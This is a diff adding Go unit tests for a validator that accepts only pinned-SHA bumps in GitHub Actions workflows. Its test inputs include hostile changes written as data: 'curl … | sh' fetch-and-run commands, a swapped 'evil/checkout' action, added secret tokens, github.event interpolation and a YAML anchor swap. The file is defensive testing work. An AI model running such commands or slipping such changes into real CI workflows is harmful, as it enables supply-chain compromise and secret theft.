@@ -0,0 +1,183 @@
+package security
+
+import (
+	"errors"
+	"strings"
+	"testing"
+)
+
+const baseWorkflow = `name: CI
+on: [push, pull_request]
+permissions:
+  contents: read
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1
+      - uses: actions/setup-go@v4
+        with:
+          go-version: "1.23"
+      - run: go test ./...
+  release:
+    uses: org/workflows/.github/workflows/release.yml@0123456789abcdef0123456789abcdef01234567 # v1.0.0
+`
+
+func TestCheckWorkflowChange(t *testing.T) {
+	const newSHA = "11bd71901bbe5b1630ceea73d27597364c9af683"
+
+	tests := []struct {
+		name      string
+		old, new  string
+		wantBumps int
+		wantErr   string // "" if the change is accepted
+	}{
+		{
+			name:      "pinned SHA bump",
+			old:       "actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1",
+			new:       "actions/checkout@" + newSHA + " # v4.2.2",
+			wantBumps: 1,
+		},
+		{
+			name:      "tag pinned to SHA",
+			old:       "actions/setup-go@v4",
+			new:       "actions/setup-go@" + newSHA + " # v5.0.0",
+			wantBumps: 1,
+		},
+		{
+			name:      "reusable workflow bump",
+			old:       "org/workflows/.github/workflows/release.yml@0123456789abcdef0123456789abcdef01234567 # v1.0.0",
+			new:       "org/workflows/.github/workflows/release.yml@" + newSHA + " # v1.1.0",
+			wantBumps: 1,
+		},
+		{
+			name:    "tag bump",
+			old:     "actions/setup-go@v4",
+			new:     "actions/setup-go@v5",
+			wantErr: "not pinned to a full commit SHA",
+		},
+		{
+			name:    "no version comment",
+			old:     "actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1",
+			new:     "actions/checkout@" + newSHA,
+			wantErr: "has no version comment",
+		},
+		{
+			name:    "different action",
+			old:     "actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1",
+			new:     "evil/checkout@" + newSHA + " # v4.2.2",
+			wantErr: "replaces actions/checkout with evil/checkout",
+		},
+		{
+			name:    "run command",
+			old:     "run: go test ./...",
+			new:     "run: curl https://example.com/x | sh",
+			wantErr: "changes a run: command at jobs.build.steps[2].run",
+		},
+		{
+			name:    "permissions",
+			old:     "  contents: read",
+			new:     "  contents: write",
+			wantErr: "changes permissions at permissions.contents",
+		},
+		{
+			name:    "pull_request_target trigger",
+			old:     "on: [push, pull_request]",
+			new:     "on: [push, pull_request_target]",
+			wantErr: "touches the pull_request_target trigger",
+		},
+		{
+			name:    "secrets",
+			old:     `go-version: "1.23"`,
+			new:     "go-version: \"1.23\"\n          token: ${{ secrets.DEPLOY_TOKEN }}",
+			wantErr: "touches secrets at jobs.build.steps[1].with.token",
+		},
+		{
+			name:    "github.event interpolation",
+			old:     `go-version: "1.23"`,
+			new:     `go-version: "${{ github.event.pull_request.title }}"`,
+			wantErr: "adds ${{ github.event.* }} interpolation",
+		},
+		{
+			name:    "new step",
+			old:     "      - run: go test ./...",
+			new:     "      - run: go test ./...\n      - run: ./deploy.sh",
+			wantErr: "changes a run: command at jobs.build.steps",
+		},
+		{
+			name: "comment only",
+			old:  "name: CI",
+			new:  "name: CI # continuous integration",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			head := strings.Replace(baseWorkflow, tt.old, tt.new, 1)
+			if head == baseWorkflow && tt.old != tt.new {
+				t.Fatalf("test does not change the workflow")
+			}
+
+			bumps, err := CheckWorkflowChange([]byte(baseWorkflow), []byte(head))
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) || !errors.Is(err, ErrWorkflowChange) {
+					t.Errorf("CheckWorkflowChange() error = %v, want ErrWorkflowChange containing %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("CheckWorkflowChange() error = %v", err)
+			}
+			if len(bumps) != tt.wantBumps {
+				t.Errorf("CheckWorkflowChange() = %+v, want %d bumps", bumps, tt.wantBumps)
+			}
+		})
+	}
+}
+
+func TestCheckWorkflowChange_Anchors(t *testing.T) {
+	const workflow = `on: push
+x-quiet: &a
+  - run: echo hi
+x-install: &b
+  - run: curl https://example.com/install | sh
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps: *a
+  lint:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1
+`
+	swapped := strings.NewReplacer("&a", "&b", "&b", "&a", "b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1",
+		"11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2").Replace(workflow)
+	if _, err := CheckWorkflowChange([]byte(workflow), []byte(swapped)); !errors.Is(err, ErrWorkflowChange) {
+		t.Errorf("CheckWorkflowChange() error = %v for swapped anchors, want ErrWorkflowChange", err)
+	}
+
+	realiased := strings.Replace(workflow, "steps: *a", "steps: *b", 1)
+	if _, err := CheckWorkflowChange([]byte(workflow), []byte(realiased)); !errors.Is(err, ErrWorkflowChange) {
+		t.Errorf("CheckWorkflowChange() error = %v for a changed alias, want ErrWorkflowChange", err)
+	}
+}
+
+func TestCheckWorkflowChange_AddedWorkflow(t *testing.T) {
+	if _, err := CheckWorkflowChange(nil, []byte(baseWorkflow)); !errors.Is(err, ErrWorkflowChange) {
+		t.Errorf("CheckWorkflowChange() error = %v, want ErrWorkflowChange", err)
+	}
+}
+
+func TestIsWorkflow(t *testing.T) {
+	for name, want := range map[string]bool{
+		".github/workflows/ci.yml":       true,
+		".github/workflows/release.yaml": true,
+		".github/workflows/README.md":    false,
+		"docs/.github/workflows/ci.yml":  false,
+		".github/dependabot.yml":         false,
+	} {
+		if got := IsWorkflow(name); got != want {
+			t.Errorf("IsWorkflow(%q) = %v, want %v", name, got, want)
+		}
+	}
+}